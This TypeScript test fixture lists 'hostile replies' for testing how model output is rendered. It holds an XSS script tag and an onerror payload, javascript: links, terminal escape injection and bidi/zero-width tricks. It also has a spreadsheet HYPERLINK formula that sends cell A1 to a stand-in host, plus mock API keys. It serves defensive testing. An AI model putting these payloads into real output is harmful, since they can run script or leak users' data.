/** Replies that attack whatever shows them. */
export const hostileReplies: readonly string[] = [
  'I cannot help with that.',
  '\u001b[2J\u001b]0;owned\u0007\u001b[31mThe word is amber.',
  'Yes: \u202eetirw siht daer ton od\u202c and \u2066hidden\u2069, \u200bzero\u200bwidth\u{e0041}.',
  '=HYPERLINK("https://plate.invalid/?"&A1,"open")\n+1+1\n@SUM(A1:A9)\n-2+3|cmd',
  '</script><script>document.title="run"</script><img src=x onerror=alert(1)> "\'`',
  ']]> <![CDATA[ ]]> &lt; &#0; <!-- -->',
  `The word is amber. ${'x'.repeat(1_000_000)}`,
  'NUL \0 half \ud800 characters \udc00 and \uffff.',
  '@everyone #1 [click](javascript:alert(1)) ![image](https://plate.invalid/a.png) ```\n### heading\n</details> | a | b |',
  'The key is sk-practice0123456789abcdef and Bearer practice.0123456789.abcdef and pvk_practice_0123456789abcdef.',
];

/** One text with all of it. */
export const hostileText = `</style></title></details>${hostileReplies
  .filter((text) => text.length < 10_000)
  .join(' ')} {0} https://plate.invalid www.plate.invalid $x$ ‮`;
